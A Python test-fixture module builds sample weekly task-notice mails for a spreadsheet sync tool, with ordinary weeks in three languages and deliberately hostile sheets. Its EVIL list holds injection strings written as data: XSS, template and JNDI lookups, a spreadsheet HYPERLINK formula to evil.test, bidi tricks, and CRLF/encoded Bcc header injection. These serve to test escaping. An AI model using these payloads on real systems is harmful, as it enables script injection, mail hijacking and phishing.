"""Notices to make mails of: an ordinary week in three languages, several plans for one reader, a hostile sheet."""

import datetime as dt

from sheets_sync.core.model import Field, Finding, Flag, Severity, Status
from sheets_sync.core.notices import FixCount, Kind, LeaderSection, Notice, OwnerSection, PlanFacts, Row
from sheets_sync.core.persons import Person

NOW = dt.datetime(2026, 11, 23, 7, 30, tzinfo=dt.UTC)
ANA = Person("Ana Lima", "ana@example.org")
RUI = Person("Rui Costa", "rui@example.org")
LINK = "https://sheets.example.com/plan"

TITLES = {
    "en": (
        "Renew the ISO 27001 certificate",
        "Send the revised price list to the five pilot customers",
        "Publish the migration guide",
        "Approve the wording of the data-processing agreement",
        "Book the launch-day support rota",
        "Close the penetration-test findings",
        "Sign the hosting contract",
        "Train the service desk",
        "Stable operation",
        "Auditor offered 2 or 9 December. Please pick one.",
        "The supplier has not sent the final names",
    ),
    "pt": (
        "Renovar o certificado ISO 27001",
        "Enviar a tabela de preços revisada aos cinco clientes-piloto",
        "Publicar o guia de migração",
        "Aprovar a redação do acordo de tratamento de dados",
        "Montar a escala de suporte do dia do lançamento",
        "Encerrar os achados do teste de invasão",
        "Assinar o contrato de hospedagem",
        "Treinar a central de atendimento",
        "Operação estável",
        "O auditor ofereceu 2 ou 9 de dezembro. Por favor, escolha.",
        "O fornecedor ainda não enviou os nomes finais",
    ),
    "es": (
        "Renovar el certificado ISO 27001",
        "Enviar la lista de precios revisada a los cinco clientes piloto",
        "Publicar la guía de migración",
        "Aprobar la redacción del acuerdo de tratamiento de datos",
        "Organizar los turnos de soporte del día del lanzamiento",
        "Cerrar los hallazgos de la prueba de penetración",
        "Firmar el contrato de alojamiento",
        "Formar al centro de atención",
        "Operación estable",
        "El auditor ofreció el 2 o el 9 de diciembre. Por favor, elija.",
        "El proveedor aún no envió los nombres finales",
    ),
}
PLANS = {"en": "Product launch", "pt": "Lançamento do produto", "es": "Lanzamiento del producto"}


def day(number, month=11, year=2026):
    """A day of the sample weeks."""
    return dt.date(year, month, number)


def plan(language="en", name="", link=LINK, uid="launch"):
    """What a mail says about the sample plan."""
    return PlanFacts(
        uid=uid,
        name=name or PLANS[language],
        language=language,
        timezone="UTC",
        day=day(23),
        read_at=dt.datetime(2026, 11, 23, 7, 28, tzinfo=dt.UTC),
        keeper_name="Rui Costa",
        keeper_address="rui@example.org",
        link=link,
    )


def row(number, title, **given):
    """One row in tab Actions."""
    return Row("Actions", number, f"A-{number:03}", title, given.pop("status", Status.IN_PROGRESS), **given)


def owner_section(language="en", facts=None):
    """An ordinary owner's week: two late, one blocked, two due soon, and a little of everything else."""
    said = TITLES[language]
    goals = (said[8],)
    late = (
        row(
            14,
            said[0],
            flag=Flag.OVERDUE,
            due=day(13),
            days_late=6,
            high_priority=True,
            progress=60.0,
            note=said[9],
            note_seen=day(19),
            serves=goals,
            next_step_on=day(30),
            next_step_to="Rui Costa",
        ),
        row(
            21,
            said[1],
            flag=Flag.OVERDUE,
            due=day(19),
            days_late=2,
            progress=0.0,
            next_step_on=day(7, 12),
            next_step_to="Rui Costa",
        ),
    )
    blocked = (
        row(25, said[2], status=Status.BLOCKED, flag=Flag.BLOCKED, due=day(26), progress=40.0, blocker=said[10]),
    )
    missing = Finding("ACT002", Severity.W, "Actions", 31, Field.ACTION, (("text", "Portal"),))
    return OwnerSection(
        plan=facts or plan(language),
        finished=(row(9, said[5], status=Status.DONE, flag=Flag.DONE),),
        late=late,
        blocked=blocked,
        due_soon=(
            row(7, said[3], due=day(24), progress=80.0, flag=Flag.DUE_SOON),
            row(18, said[4], due=day(27), progress=30.0, flag=Flag.DUE_SOON, new=True, serves=goals),
        ),
        waiting=(row(33, said[7], status=Status.PLANNED, due=day(4, 12)),),
        fixes=(row(31, "Portal", due=day(18, 12), fixes=(missing,)),),
        stand_in=(row(40, said[6], flag=Flag.OVERDUE, due=day(16), days_late=5, owner="Dora Silva"),),
        later=4,
    )


def leader_section(language="en", facts=None):
    """An ordinary leader's week: three late, two decisions, one with a need of its own."""
    said = TITLES[language]
    return LeaderSection(
        plan=facts or plan(language),
        first=day(16),
        last=day(22),
        live=10,
        done=2,
        late=3,
        blocked=1,
        due_next=3,
        late_before=2,
        decisions=(
            row(
                14,
                said[0],
                flag=Flag.OVERDUE,
                due=day(13),
                days_late=6,
                high_priority=True,
                progress=60.0,
                owner="Ana Lima",
                need=said[9],
            ),
            row(3, said[6], flag=Flag.OVERDUE, due=day(9), days_late=10, progress=90.0, owner="Ben Weber"),
        ),
        finished=(
            row(9, said[5], status=Status.DONE, flag=Flag.DONE, owner="Dora Silva"),
            row(10, said[7], status=Status.DONE, flag=Flag.DONE_LATE),
        ),
        commonest_fixes=(FixCount("OWN001", 2), FixCount("ACT004", 1)),
        flagged=3,
        unchecked=(("not_checked", (("column", "start"), ("tab", "Actions"))),),
        unreached=2,
    )


def quiet_section(language="en"):
    """A leader's week in which nothing needs the leader."""
    return LeaderSection(
        plan=plan(language),
        first=day(16),
        last=day(22),
        live=10,
        done=2,
        due_next=3,
        finished=(row(9, TITLES[language][5], status=Status.DONE, flag=Flag.DONE, owner="Dora Silva"),),
        commonest_fixes=(FixCount("OWN001", 2),),
        flagged=2,
    )


def notice(section, person=ANA):
    """The notice of a section for a person."""
    kind = Kind.OWNER_WEEK if isinstance(section, OwnerSection) else Kind.LEADER_WEEK
    later = NOW + dt.timedelta(days=2)
    return Notice(section.plan.uid, person, kind, "2026-W48", NOW, later, section)


EVIL = (
    '<script>alert(1)</script><img src=x onerror="alert(2)"> https://evil.test/x',
    "{{ 7 * 7 }}{% for x in range(9) %}{{ x }}{% endfor %}${jndi:ldap://evil.test}",
    '"><a href="https://evil.test" onclick=\'x()\'>Click</a><style>*{display:none}</style>',
    '=HYPERLINK("http://evil.test";"Open")',
    "\u202eevil txet\u202c \u200bhidden\u2066 <!-- --><![endif]-->",
    "x" * 120,
    "تجديد شهادة الأيزو قبل نهاية الشهر (ISO 27001)",
    "</td></tr></table></body></html>",
    "line one\r\nBcc: evil@evil.test\n\nline two",
    "=?utf-8?q?hi=0ABcc=3A_evil=40x.test?=",
    "a&b<c>d\"e'f" * 30,
)


def hostile_section(rows=400, facts=None):
    """An owner's week of a sheet that tries everything, with as many late rows as asked for."""
    facts = facts or plan("en", "<b>Plan</b> {{ mail }} https://evil.test", LINK)
    late = tuple(
        Row(
            EVIL[number % 11][:31],
            number + 2,
            EVIL[(number + 3) % 11],
            EVIL[number % 11],
            Status.BLOCKED,
            flag=Flag.OVERDUE,
            due=day(2),
            days_late=400 - number,
            high_priority=True,
            progress=12.5,
            blocker=EVIL[(number + 1) % 11] * 3,
            need=EVIL[(number + 2) % 11] * 3,
            note=EVIL[(number + 5) % 11] * 3,
            note_seen=day(3),
            serves=(EVIL[(number + 4) % 11], EVIL[(number + 6) % 11]),
            next_step_on=day(30),
            next_step_to=EVIL[(number + 7) % 11],
        )
        for number in range(rows)
    )
    bad = tuple(
        Row("T", 1, "", text, Status.PLANNED, fixes=(Finding("ACT002", Severity.W, "T", 1, None, (("text", text),)),))
        for text in EVIL[:5]
    )
    plain = tuple(Row("T", 9, "", text, Status.IN_PROGRESS, due=day(25), owner=text) for text in EVIL)
    return OwnerSection(
        facts, finished=plain, late=late, due_soon=plain, waiting=plain, fixes=bad, stand_in=plain, later=3
    )


def swollen_section(rows=400):
    """An owner's week whose every text is as long as a mail takes it, and grows fivefold where it is escaped."""
    text = "&" * 2000
    row = Row(text, 2, text, text, Status.BLOCKED, Flag.OVERDUE, day(2), 9, blocker=text, need=text, note=text)
    rows = (row._replace(serves=(text, text), next_step_on=day(30), next_step_to=text),) * rows
    return OwnerSection(plan("en", text), rows[:9], rows, (), rows, rows, (), rows, 3)


def plain_section():
    """Rows in no colour, and a person and a plan with long names."""
    calm = row(2, "Agree on the venue", status=Status.ON_HOLD, flag=Flag.ON_HOLD, due=day(1, 12), owner="Zoë Weiß")
    facts = plan("en", "Programme for the renewal of everything that was put off for years and years")
    return LeaderSection(facts, day(16), day(22), live=1, done=0, decisions=(calm,), more_decisions=1, late_before=0)


def hostile_leader(facts=None):
    """A leader's week of the same sheet."""
    rows = tuple(
        Row(
            "T",
            number,
            f"A-{number}",
            text,
            Status.PLANNED,
            flag=Flag.OVERDUE,
            due=day(2),
            days_late=15,
            owner=EVIL[(number + 1) % 11],
            need=EVIL[(number + 2) % 11] * 4 if number % 2 else "",
        )
        for number, text in enumerate(EVIL)
    )
    facts = facts or plan("en", EVIL[0])
    return LeaderSection(
        facts,
        day(16),
        day(22),
        live=50,
        done=5,
        late=11,
        blocked=3,
        due_next=4,
        decisions=rows[:5],
        more_decisions=6,
        finished=rows,
        unchecked=(("not_checked_unclear", (("column", EVIL[0]), ("columns", EVIL[2]), ("tab", EVIL[1]))),),
        unreached=3,
    )
